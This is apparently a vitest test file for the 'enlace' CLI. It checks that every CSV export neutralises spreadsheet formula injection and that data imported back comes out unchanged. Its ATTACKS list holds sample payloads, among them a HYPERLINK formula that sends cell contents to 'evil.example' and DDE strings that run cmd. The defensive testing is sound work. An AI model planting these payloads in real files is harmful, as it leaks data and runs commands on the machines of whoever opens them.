import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { cellText, csvField, demoFolder, FILES, restoreCell } from '@enlace/core';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadFolder } from '../src/report/folder.ts';
import { seededDataDir } from './databases.ts';

/**
 * Formula injection through every CSV the CLI writes (docs/exchange.md, "Formula injection"): a folder whose
 * names, addresses and agency name are spreadsheet formulas is imported; `enlace export`, `export --format ctdc`,
 * `publish`, `encode` and `link` write no cell a spreadsheet would run, and what is read back is the text itself.
 */
const run = promisify(execFile);
const BIN = resolve(import.meta.dirname, '../bin/enlace.mjs');
const FORMULA = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;
const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Ver expediente")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
];

const root = mkdtempSync(join(tmpdir(), 'enlace-cli-formula-'));
// the embedded database starts migrated (a copy of the test run's template): the test is about the CSV files
const env = {
  ENLACE_DATA_DIR: seededDataDir(join(root, 'data')),
  DATABASE_URL: '',
  ENLACE_LOG_LEVEL: 'silent',
};
afterAll(() => rmSync(root, { recursive: true, force: true }));

async function enlace(args: string[]) {
  try {
    const r = await run('node', [BIN, ...args], {
      env: { ...process.env, ...env },
      timeout: 300_000,
      maxBuffer: 1 << 26,
    });
    return { code: 0, stdout: r.stdout, stderr: r.stderr };
  } catch (e) {
    const err = e as { code: number; stdout: string; stderr: string };
    return { code: err.code, stdout: err.stdout, stderr: err.stderr };
  }
}

const records = (file: string) =>
  parse(readFileSync(file, 'utf8'), { relax_column_count: true }) as string[][];

/** Every cell of the file either starts no formula or is a plain number (-99). */
function expectSafe(file: string, { numbers = false } = {}) {
  for (const record of records(file))
    for (const cell of record) {
      if (!FORMULA.test(cell)) continue;
      expect(numbers, `${file}: ${JSON.stringify(cell)}`).toBe(true);
      expect(cell).toMatch(PLAIN_NUMBER);
    }
}

/** The demo folder with formulas in agency names and in the names and addresses of one person in three. */
function poisonedFolder(dir: string) {
  mkdirSync(dir, { recursive: true });
  const demo = demoFolder({ scale: 0.1, hotlineScale: 0.05 });
  for (const def of FILES) {
    const rows = parse(demo[def.file]!, { columns: true }) as Record<string, string>[];
    rows.forEach((r, i) => {
      const attack = ATTACKS[i % ATTACKS.length]!;
      if (def.kind === 'agencies' && i % 10 === 0) r.name = attack;
      if (def.kind === 'persons' && i % 3 === 0) {
        r.given_names = attack;
        r.surname_2 = attack;
        r.address = `${attack} Calle ${i}`;
      }
    });
    const lines = [def.columns.map((c) => c.name).join(',')];
    for (const r of rows)
      lines.push(def.columns.map((c) => csvField(cellText(c, r[c.name] ?? ''))).join(','));
    writeFileSync(join(dir, def.file), `${lines.join('\r\n')}\r\n`);
  }
}

describe('CLI exports against formula injection (embedded database)', () => {
  const src = join(root, 'in');
  beforeAll(async () => {
    poisonedFolder(src);
    const r = await enlace(['import', src, '--json']);
    expect(r.code, r.stderr + r.stdout.slice(0, 2000)).toBe(0);
  }, 300_000);

  it('enlace export: text cells neutralised, and the export imports back unchanged', async () => {
    const out = join(root, 'out');
    const r = await enlace(['export', out]);
    expect(r.code, r.stderr).toBe(0);
    for (const def of FILES) expectSafe(join(out, def.file));
    const persons = records(join(out, 'persons.csv'));
    const gi = persons[0]!.indexOf('given_names');
    const names = persons.slice(1).map((p) => p[gi]!);
    expect(names).toContain(`'${ATTACKS[0]}`);
    expect(names).toContain(`''=1+1`);
    // read back as the text itself: by the importer (nothing changes) and by the report's folder reader
    const again = await enlace(['import', out, '--json']);
    expect(again.code, again.stderr).toBe(0);
    const res = JSON.parse(again.stdout) as { files: { file: string; inserted: number; updated: number }[] };
    for (const f of res.files) expect([f.file, f.inserted, f.updated]).toEqual([f.file, 0, 0]);
    const { identities } = await loadFolder(out);
    const given = new Set(identities.map((p) => p.given_names));
    for (const a of ATTACKS) expect(given.has(a), JSON.stringify(a)).toBe(true);
  }, 300_000);

  it('enlace export --format ctdc and enlace publish: no text cell starts a formula', async () => {
    const ctdc = join(root, 'ctdc.csv');
    const c = await enlace(['export', '--format', 'ctdc', '--out', ctdc, '--k', '2']);
    expect(c.code, c.stderr).toBe(0);
    expect(records(ctdc).length).toBeGreaterThan(10);
    expectSafe(ctdc, { numbers: true });
    const pub = join(root, 'pub');
    const p = await enlace(['publish', '--year', '2023', '--out', pub, '--k', '3']);
    expect(p.code, p.stderr).toBe(0);
    expectSafe(join(pub, 'figures.csv'), { numbers: true });
  }, 300_000);

  it('enlace encode and enlace link: ids neutralised in every output, restored when encodings are read', async () => {
    const dir = join(root, 'link');
    mkdirSync(dir, { recursive: true });
    const people = [
      ['María Guadalupe', 'Hernández', '1991-04-02'],
      ['José Luis', 'Ramírez', '1985-11-20'],
      ['Itzel', 'Xolalpa', '2001-01-09'],
      ['Juan', 'Pérez', '1979-07-30'],
    ];
    const ids = ATTACKS.slice(0, people.length);
    const csv = (prefix: string) =>
      `folio,nombre,ap1,fn\r\n${people
        .map((p, i) => [`${prefix}${ids[i]}`, ...p].map((v) => csvField(v)).join(','))
        .join('\r\n')}\r\n`;
    // The agencies' own files hold the raw ids (not written by Enlace): ids start with the formula itself.
    writeFileSync(join(dir, 'a.csv'), csv(''));
    writeFileSync(join(dir, 'b.csv'), csv(''));
    writeFileSync(
      join(dir, 'map.json'),
      JSON.stringify({
        id: 'folio',
        delimiter: ',',
        date_format: 'YYYY-MM-DD',
        columns: { given_names: 'nombre', surname_1: 'ap1', birth_date: 'fn' },
      }),
    );
    writeFileSync(join(dir, 'key'), 'a shared secret of 32 bytes here');
    for (const f of ['a', 'b']) {
      const args = ['--map', join(dir, 'map.json'), '--secret-file', join(dir, 'key')];
      const e = await enlace([
        'encode',
        '--in',
        join(dir, `${f}.csv`),
        ...args,
        '--out',
        join(dir, `${f}.clk.csv`),
      ]);
      expect(e.code, e.stderr).toBe(0);
      expectSafe(join(dir, `${f}.clk.csv`));
    }
    const pairs = join(dir, 'pairs.csv');
    const clusters = join(dir, 'clusters.csv');
    const l = await enlace([
      'link',
      '--encoded',
      '--left',
      join(dir, 'a.clk.csv'),
      '--right',
      join(dir, 'b.clk.csv'),
      '--out',
      pairs,
      '--clusters',
      clusters,
    ]);
    expect(l.code, l.stderr).toBe(0);
    expectSafe(pairs);
    expectSafe(clusters);
    const found = records(pairs)
      .slice(1)
      .map((r) => [restoreCell(r[0]!), restoreCell(r[1]!)]);
    expect(found).toEqual(ids.map((id) => [id, id]));
    // Plain linkage of the raw files writes neutralised ids too.
    const plain = join(dir, 'plain.csv');
    const pl = await enlace([
      'link',
      '--left',
      join(dir, 'a.csv'),
      '--right',
      join(dir, 'b.csv'),
      '--map',
      join(dir, 'map.json'),
      '--out',
      plain,
      '--clusters',
      join(dir, 'plain-clusters.csv'),
    ]);
    expect(pl.code, pl.stderr).toBe(0);
    expectSafe(plain);
    expectSafe(join(dir, 'plain-clusters.csv'));
    const cl = records(join(dir, 'plain-clusters.csv')).slice(1);
    expect(cl.map((r) => restoreCell(r[0]!)).sort()).toEqual([...ids, ...ids].sort());
  }, 300_000);
});
